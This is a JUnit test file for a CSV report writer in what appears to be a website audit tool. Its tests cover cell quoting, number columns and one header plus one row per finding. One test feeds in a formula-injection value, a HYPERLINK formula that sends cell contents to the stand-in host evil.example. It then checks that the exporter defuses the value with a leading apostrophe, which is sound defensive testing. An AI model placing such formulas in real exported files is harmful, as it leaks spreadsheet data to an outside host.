package org.zhanqun.audit.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.zhanqun.audit.Audit;
import org.zhanqun.audit.AuditRequest;
import org.zhanqun.audit.AuditResult;
import org.zhanqun.audit.SiteResult;
import org.zhanqun.audit.finding.Finding;
import org.zhanqun.audit.rule.RuleKind;
import org.zhanqun.audit.rule.Text;
import org.zhanqun.audit.testing.AuditRun;
import org.zhanqun.audit.testing.MiniCluster;

class CsvReportTest {

  @TempDir Path folder;

  @Test
  void quotesOnlyCellsWithCommasQuotesOrLineBreaks() {
    String csv = csv(finding("plain 文本", "two\nlines", new Text("a, b", "say \"hi\"")), "95.00");

    assertThat(csv.split("\r\n")[1])
        .endsWith(",5,5,plain 文本,\"two\nlines\",\"a, b\",\"say \"\"hi\"\"\",,,,,,,");
  }

  @Test
  void guardsAFindingWhoseEvidenceBeginsWithAFormulaAndLeavesNormalTextAlone() {
    String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")";
    String csv =
        csv(
            finding(
                "new item within P14D",
                "-5",
                new Text(formula, "last update 2026-10-27, 20 days before 2026-11-16")),
            "95.00");

    assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"点我\"\")\",");
    CSVRecord row = rows(csv).get(0);
    assertThat(row.get("evidence_zh")).isEqualTo("'" + formula);
    assertThat(row.get("evidence_en"))
        .isEqualTo("last update 2026-10-27, 20 days before 2026-11-16");
    assertThat(row.get("expected")).isEqualTo("new item within P14D");
    assertThat(row.get("found")).as("text, even when it looks like a number").isEqualTo("'-5");
    assertThat(row.get("rule")).isEqualTo("column-stale");
    assertThat(row.get("url")).isEqualTo("https://www.example.gov.cn/dep/news/");
    assertThat(row.get("score")).isEqualTo("95.00");
    assertThat(row.get("points")).isEqualTo("5");
  }

  @Test
  void keepsNumberColumnsAsNumbersWhateverTheirSign() {
    String csv = csv(finding(null, null, new Text("证据", "evidence")), "-5.00");

    assertThat(csv.split("\r\n")[1]).startsWith("2026-11-16,national-2019.3,dep,-5.00,");
    assertThat(rows(csv).get(0).get("score")).isEqualTo("-5.00");
  }

  @Test
  void writesAHeaderAndOneRowPerFindingWithItsSiteBeside() {
    MiniCluster cluster =
        MiniCluster.complete(folder).remove("news/fresh-news.zh-CN.md").item("news", "n", 20);
    StringWriter out = new StringWriter();

    new CsvReport()
        .write(
            new Audit()
                .run(AuditRequest.of(cluster.read(), AuditRun.DEFAULT_RULES, MiniCluster.AS_OF)),
            out);

    String[] lines = out.toString().split("\r\n");
    assertThat(lines[0]).isEqualTo("\uFEFF" + String.join(",", CsvReport.COLUMNS));
    assertThat(lines)
        .anySatisfy(
            l ->
                assertThat(l)
                    .startsWith("2026-11-16,national-2019.3,dep,95.00,excellent,false,false,")
                    .contains(
                        ",column-stale,deduction,news,,,https://www.example.gov.cn/dep/news/,5,5,")
                    .endsWith(
                        ",\"last update 2026-10-27, 20 days before 2026-11-16, limit 14 days (14 days)\",,,,,,,"));
  }

  private static Finding finding(String expected, String found, Text evidence) {
    return new Finding(
        "column-stale",
        RuleKind.DEDUCTION,
        "dep",
        "news",
        null,
        "https://www.example.gov.cn/dep/news/",
        evidence,
        expected,
        found,
        new BigDecimal("5"),
        new BigDecimal("5"));
  }

  /** The CSV of a one-site result with {@code finding}, the site scoring {@code score}. */
  private static String csv(Finding finding, String score) {
    SiteResult site =
        new SiteResult(
            "dep",
            new Text("部门", "Department"),
            "department",
            new BigDecimal(score),
            "excellent",
            false,
            false,
            List.of(),
            false,
            null,
            null,
            null,
            List.of(),
            List.of(),
            List.of(finding));
    AuditResult result =
        new AuditResult(
            "cluster",
            "Asia/Shanghai",
            MiniCluster.AS_OF,
            "national-2019.3",
            Optional.empty(),
            List.of(site),
            List.of("dep"),
            List.of(),
            List.of());
    StringWriter out = new StringWriter();
    new CsvReport().write(result, out);
    return out.toString();
  }

  /** The rows as a spreadsheet program reads them, by column name (after the byte order mark). */
  private static List<CSVRecord> rows(String csv) {
    try (CSVParser parser =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(csv.substring(1)))) {
      return parser.getRecords();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
